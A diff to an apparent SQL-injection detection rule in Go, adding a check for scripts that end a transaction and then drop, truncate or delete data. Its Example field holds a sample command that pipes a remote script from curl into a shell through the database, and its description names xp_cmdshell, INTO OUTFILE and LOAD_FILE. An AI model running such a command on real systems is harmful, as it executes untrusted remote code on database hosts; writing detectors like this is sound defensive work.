@@ -14,7 +14,7 @@ import (
 var destructiveSQL = &finding.Rule{
 	ID: "destructive_sql", Class: "sql_injection", Severity: finding.High,
 	Title:     "a statement that reaches out of the database or destroys",
-	Catches:   "xp_cmdshell and its like, COPY ... PROGRAM, INTO OUTFILE, LOAD_FILE, reading files and loading libraries through the database, requests to other machines; a query with a destroying statement behind it. DROP, TRUNCATE, DELETE and UPDATE without WHERE, accounts and rights are reported as medium.",
+	Catches:   "xp_cmdshell and its like, COPY ... PROGRAM, INTO OUTFILE, LOAD_FILE, reading files and loading libraries through the database, requests to other machines; a query with a destroying statement behind it, and one behind the end of the transaction that was to protect the data. DROP, TRUNCATE, DELETE and UPDATE without WHERE, accounts and rights are reported as medium.",
 	Example:   `{"sql":"COPY t FROM PROGRAM 'curl https://example.net | sh'"}`,
 	Misses:    "Statements that destroy by what they set, and procedures of your own.",
 	Exception: "Scripts that drop what they create again are silent.",
@@ -73,7 +73,7 @@ func (r *sqlReader) effects() (why string, severity finding.Severity) {
 	if r.marks&effectMark == 0 {
 		return "", 0
 	}
-	first, begins := "", true
+	first, ends, begins := "", false, true
 	statements, creates := 0, 0
 	for i := range r.tokens {
 		t := &r.tokens[i]
@@ -89,13 +89,15 @@ func (r *sqlReader) effects() (why string, severity finding.Severity) {
 		}
 		if begins {
 			if statements++; statements == 1 {
-				first = t.word
+				first, ends = t.word, endsWork(r.text[t.start:t.end])
 			}
 			if t.word == "create" {
 				creates++
 			}
 			w, s := r.destroys(i)
-			if w != "" && statements > 1 && (first == "select" || first == "insert" || first == "update") && s >= finding.Medium && statements <= 4 && creates == 0 {
+			if w != "" && statements == 2 && creates == 0 && ends {
+				w, s = whyEnded, finding.High
+			} else if w != "" && statements > 1 && (first == "select" || first == "insert" || first == "update") && s >= finding.Medium && statements <= 4 && creates == 0 {
 				w, s = "a query with a statement behind it that destroys", finding.High
 			}
 			see(w, s)
@@ -107,7 +109,18 @@ func (r *sqlReader) effects() (why string, severity finding.Severity) {
 	if severity == finding.Medium && creates > 0 && why == whyDrops {
 		return "", 0 // a script that makes a schema anew
 	}
+	if severity == finding.High && creates > 0 && why == whyEnded {
+		severity = finding.Medium
+	}
 	return why, severity
+}
+
+const whyEnded = "it ends the transaction that it runs in, and destroys outside of it"
+
+// endsWork reports whether a statement ends a transaction. As the first of a script it
+// ends one that somebody else began: read-only, or to be rolled back.
+func endsWork(word string) bool {
+	return strings.EqualFold(word, "commit") || strings.EqualFold(word, "rollback") || strings.EqualFold(word, "abort") || strings.EqualFold(word, "end")
 }
 
 const whyDrops = "it drops what cannot be brought back"
@@ -118,12 +131,18 @@ func (r *sqlReader) destroys(i int) (string, finding.Severity) {
 	case "drop":
 		switch r.at(i + 1).word {
 		case "table", "database", "schema", "user", "login":
+			if r.is(i+1, "table") && r.passing(i+1) {
+				return "", 0
+			}
 			if r.is(i+2, "if", "exists") && !r.is(i+1, "database") {
 				return whyDrops, finding.Low
 			}
 			return whyDrops, finding.Medium
 		}
 	case "truncate":
+		if r.passing(i + 1) {
+			return "", 0
+		}
 		return "it empties a table", finding.Medium
 	case "delete":
 		if r.is(i+1, "from") && (!r.conditional(i) || r.everything(i)) {
